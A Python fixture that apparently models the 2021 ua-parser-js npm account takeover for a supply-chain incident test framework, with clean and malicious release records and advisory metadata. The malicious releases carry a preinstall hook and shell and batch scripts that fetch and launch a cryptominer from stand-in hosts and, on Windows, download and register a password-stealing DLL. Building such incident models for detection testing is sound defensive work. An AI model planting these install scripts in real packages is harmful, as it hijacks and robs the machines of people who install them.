"""ua-parser-js 0.7.29, 0.8.0 and 1.0.0 (2021-10-22): a taken account; a preinstall fetches and starts a miner and a thief.

By the record: three lines within 90 seconds from 12:15:21 UTC, by the account of the one maintainer; the preinstall tells the
system apart, and fetches a program for it: a miner everywhere, on Windows a library that steals passwords, too. Clean
releases of each line at 16:16.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_PARSER = """(function (window) {
  var UAParser = function (text) { this.text = text; };
  UAParser.prototype.getBrowser = function () { return /Firefox/.test(this.text) ? 'Firefox' : undefined; };
  module.exports = UAParser;
})(typeof window === 'object' ? window : this);
"""
_CLEAN = {"src/ua-parser.js": _PARSER}
_PREINSTALL_JS = """const { exec } = require("child_process");
const os = require("os");
function terminalLinux() {
  exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {
    if (error) { console.log(`error: ${error.message}`); return; }
    console.log(`stdout: ${stdout}`);
  });
}
const system = os.platform();
if (system == "win32") {
  exec("cmd.exe /c preinstall.bat");
} else if (system == "linux") {
  terminalLinux();
}
"""
_PREINSTALL_SH = """HERE=$(curl -s http://where.invalid/country)
if [ -z "$HERE" ]; then exit; fi
if ! pgrep -x marker > /dev/null; then
  curl http://sink.invalid/download/marker -o marker || wget http://sink.invalid/download/marker -O marker
  chmod +x marker
  ./marker -k --tls --rig-id q -o pool.invalid:443 -u marker --donate-level=1 --background
fi
"""
_PREINSTALL_BAT = """@echo off
curl http://sink.invalid/download/marker.exe -o marker.exe
if not exist marker.exe ( certutil.exe -urlcache -f http://sink.invalid/download/marker.exe marker.exe )
start /B marker.exe -k --tls --rig-id q -o pool.invalid:443 -u marker --background
curl https://library.invalid/marker.dll -o create.dll
regsvr32.exe -s create.dll
"""
_DROPS = {
    "preinstall.js": _PREINSTALL_JS,
    "preinstall.sh": _PREINSTALL_SH,
    "preinstall.bat": _PREINSTALL_BAT,
}
_MAIN = {"main": "src/ua-parser.js"}
_RECORDED = (
    ("0.7.14", "2017-07-19T12:47:34.873Z"),
    ("0.7.15", "2017-10-12T02:29:39.998Z"),
    ("0.7.16", "2017-10-12T05:13:04.568Z"),
    ("0.7.17", "2017-10-12T08:18:01.762Z"),
    ("0.7.18", "2018-05-04T16:18:07.045Z"),
    ("0.7.19", "2018-10-25T18:36:50.279Z"),
    ("0.7.20", "2019-06-08T14:53:29.472Z"),
    ("0.7.21", "2019-12-19T18:16:14.356Z"),
    ("0.7.22", "2020-09-12T09:15:07.793Z"),
    ("0.7.28", "2021-04-10T00:00:00Z"),
)


def _release(version: str, at: str) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher="faisalman",
        maintainers=("faisalman",),
        files=_CLEAN,
        more=_MAIN,
    )


def _bad(version: str, at: str) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher="faisalman",
        maintainers=("faisalman",),
        files={**_CLEAN, **_DROPS},
        scripts={"preinstall": "start /B node preinstall.js & node preinstall.js"},
        more=_MAIN,
    )


_BAD = (
    _bad("0.7.29", "2021-10-22T12:15:21.378Z"),
    _bad("0.8.0", "2021-10-22T12:16:06.000Z"),
    _bad("1.0.0", "2021-10-22T12:16:51.000Z"),
)

INCIDENT = Incident(
    id="ua-parser-js-2021",
    title=(
        "an attacker took over the account of ua-parser-js; a preinstall script downloaded a miner and, on Windows, a "
        "password stealer"
    ),
    copy="our copy of ua-parser-js has the same shell and batch scripts in three release lines",
    ecosystem=Ecosystem.NPM,
    at=_BAD[0].at,
    packages=(
        Package(
            name="ua-parser-js",
            releases=(
                *(_release(*one) for one in _RECORDED),
                *_BAD,
                _release("0.7.30", "2021-10-22T16:16:08.807Z"),
                _release("0.8.1", "2021-10-22T16:23:00.000Z"),
                _release("1.0.1", "2021-10-22T16:26:00.000Z"),
            ),
        ),
    ),
    asks={"ua-parser-js": "^0.7.22"},
    good={"ua-parser-js": "0.7.28"},
    bad={"ua-parser-js": ("0.7.29",)},
    guilty={"ua-parser-js": ("0.7.29", "0.8.0", "1.0.0")},
    gone_at=utc("2021-10-22T16:16:08.807Z"),
    advisory=Advisory(
        id="GHSA-pjwm-rvh2-c87w",
        at=utc("2021-10-22T20:38:00Z"),
        about={"ua-parser-js": ("0.7.29", "0.8.0", "1.0.0")},
    ),
    invented="some publish times; releases before 0.7.14 and from 0.7.23 to 0.7.27 are left out",
)
